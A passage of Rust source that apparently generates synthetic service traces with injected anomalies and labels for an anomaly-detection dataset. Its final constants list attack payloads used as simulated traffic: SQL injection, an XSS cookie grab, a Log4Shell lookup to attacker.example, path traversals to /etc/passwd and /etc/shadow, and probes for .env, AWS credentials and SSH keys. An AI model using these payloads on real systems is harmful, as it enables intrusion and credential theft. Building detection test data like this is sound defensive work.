        let first_new = b.append_calls(trace, parent, &steps, batch, vary);
        let root = &trace.spans[0];
        let mut draft = LabelDraft::new(subtype, root.start, root.end(), description);
        let p = &trace.spans[parent];
        let trace_hex = hex::encode(trace.trace_id);
        if subtype != Subtype::UnusualTraceShape {
            draft.targets.insert(Target {
                service: Some(topo.service_name(p.service).to_owned()),
                operation: Some(topo.ops[p.op].name.clone()),
                client: None,
                trace_id: Some(trace_hex.clone()),
                span_id: Some(hex::encode(p.span_id)),
            });
        }
        // Any resource finding on this trace is about this injection.
        draft.targets.insert(Target {
            trace_id: Some(trace_hex),
            ..Target::default()
        });
        draft.side_effect(Subtype::LatencySpike, None, None, Some(trace.trace_id));
        if subtype != Subtype::UnusualTraceShape {
            let keys: BTreeSet<Key> = trace.spans[first_new..]
                .iter()
                .map(|s| topo.key(s.service, s.op))
                .collect();
            for key in &keys {
                draft.side_effect(Subtype::ThroughputSpike, Some(key), None, None);
            }
        }
        draft.add_trace(trace.trace_id);
        self.labels.push(draft);
        true
    }

    /// What a built trace tells the labels: faults, skipped calls, attack traffic.
    fn record(&mut self, topo: &Topology, trace: &Trace) {
        for span in &trace.spans {
            let Some(label) = span.fault else { continue };
            let key = topo.key(span.service, span.op);
            let draft = &mut self.labels[label];
            if draft.subtype == Subtype::ErrorRateSpike {
                draft.key_target(&key);
            } else {
                draft.side_effect(Subtype::ErrorRateSpike, Some(&key), None, None);
            }
            draft.add_trace(trace.trace_id);
        }
        for (label, key) in &trace.skipped {
            let draft = &mut self.labels[*label];
            draft.side_effect(Subtype::ThroughputDrop, Some(key), None, None);
            // A skipped call changes what its caller calls, and the caller's time no longer splits
            // into the callee's: its call path and own time move. The trace does not say which span
            // would have called, so any caller's window finding of these kinds is the injection's.
            draft.side_effect(Subtype::CallPathChange, None, None, None);
            draft.side_effect(Subtype::LatencyDegradation, None, None, None);
            if draft.subtype == Subtype::ServiceSilent {
                let service = (key.0.clone(), String::new());
                draft.side_effects.insert(SideEffect {
                    anomaly_type: "PERFORMANCE".into(),
                    subtype: Subtype::ServiceSilent.as_str().into(),
                    service: Some(service.0),
                    operation: None,
                    client: None,
                    trace_id: None,
                });
            }
        }
        for &label in &trace.labels {
            let draft = &mut self.labels[label];
            let root = &trace.spans[0];
            if draft.traces.is_empty() {
                draft.start = root.start;
            }
            draft.end = draft
                .end
                .max(trace.spans.iter().map(SpanRec::end).max().unwrap_or(0));
            draft.add_trace(trace.trace_id);
            let client = trace.caller.ip.clone();
            match draft.subtype {
                Subtype::SensitiveRouteNewPrincipal => {
                    draft.targets.insert(Target {
                        service: Some(topo.service_name(root.service).to_owned()),
                        operation: Some(topo.ops[root.op].name.clone()),
                        client: Some(client),
                        trace_id: None,
                        span_id: None,
                    });
                }
                Subtype::RequestFlood
                | Subtype::AuthFailureBurst
                | Subtype::EndpointEnumeration => {
                    let keys: BTreeSet<Key> = trace
                        .spans
                        .iter()
                        .map(|s| topo.key(s.service, s.op))
                        .collect();
                    for key in &keys {
                        draft.side_effect(Subtype::ThroughputSpike, Some(key), None, None);
                    }
                    if draft.subtype == Subtype::RequestFlood {
                        // Thousands of normal requests draw a few normal 404s too.
                        draft.side_effect(Subtype::EndpointEnumeration, None, Some(&client), None);
                    }
                }
                _ => {}
            }
        }
    }

    pub fn pending_trace_injections(&self) -> usize {
        self.pending.len()
    }
}

/// A candidate injection: (duration, primary tags, affected tags, what).
type Placement = (u64, BTreeSet<String>, BTreeSet<String>, Candidate);

#[derive(Debug, Clone, Copy)]
enum Candidate {
    Window(WindowKind),
    Attack,
    Trace(TraceKind),
}

/// The part of a span's duration not covered by its direct children.
fn own_time(spans: &[SpanRec], idx: usize) -> u64 {
    let mut intervals: Vec<(u64, u64)> = spans
        .iter()
        .filter(|s| s.parent == Some(idx))
        .map(|s| (s.start, s.end()))
        .collect();
    intervals.sort_unstable();
    let mut covered = 0;
    let mut cursor = 0;
    for (a, b) in intervals {
        let a = a.max(cursor);
        if b > a {
            covered += b - a;
            cursor = b;
        }
    }
    spans[idx].dur.saturating_sub(covered)
}

const INJECTIONS: &[&str] = &[
    "1'%20OR%201=1--",
    "1%27%20OR%20%271%27%3D%271",
    "1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%24%7Bjndi:ldap:%2F%2Fattacker.example:1389%2Fa%7D",
    "1;%20DROP%20TABLE%20products",
    "1%20AND%20SLEEP(5)",
];

const TRAVERSALS: &[&str] = &[
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/api/files/../../../../etc/passwd",
    "/images/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/download/..%252f..%252f..%252fetc%252fpasswd",
    "/assets/....//....//....//etc/passwd",
    "/api/export/..%5c..%5c..%5cwindows%5cwin.ini",
];

const PROBES: &[&str] = &[
    "/.env",
    "/.env.bak",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.DS_Store",
    "/.htaccess",
    "/.aws/credentials",
    "/id_rsa",
    "/wp-login.php",
    "/wp-admin/install.php",
    "/xmlrpc.php",
    "/admin.php",
    "/administrator/index.php",
    "/phpmyadmin/index.php",
    "/pma/index.php",
    "/server-status",
    "/server-info",
    "/config.json",
    "/config.yml",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/dump.sql",
    "/web.config",
    "/api/swagger.json",
    "/swagger-ui.html",
    "/v2/api-docs",
    "/v3/api-docs",
    "/console",
    "/cgi-bin/test.cgi",
    "/solr/admin/info/system",
    "/jenkins/login",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/api/graphql",
    "/graphiql",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/info.php",
    "/phpinfo.php",
    "/test.php",
    "/old/index.html",
    "/dev/index.html",
    "/staging/index.html",
    "/api/v2/users",
    "/api/v1/users",
    "/api/v1/orders",
    "/api/v1/config",
    "/storage/logs/laravel.log",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/manager/html",
    "/login.action",
    "/struts2-showcase/index.action",
];

/// `n` distinct paths a scanner tries, in a random order: the well-known ones, then numbered ids.
fn probe_paths(rng: &mut StdRng, n: usize) -> Vec<String> {
    let mut paths: Vec<String> = PROBES.iter().map(|p| (*p).to_owned()).collect();
    let mut id = rng.random_range(100..900);
    while paths.len() < n {
        paths.push(format!("/api/v1/users/{id}"));
        id += rng.random_range(1..7);
    }
    paths.shuffle(rng);
    paths.truncate(n);
    paths
}
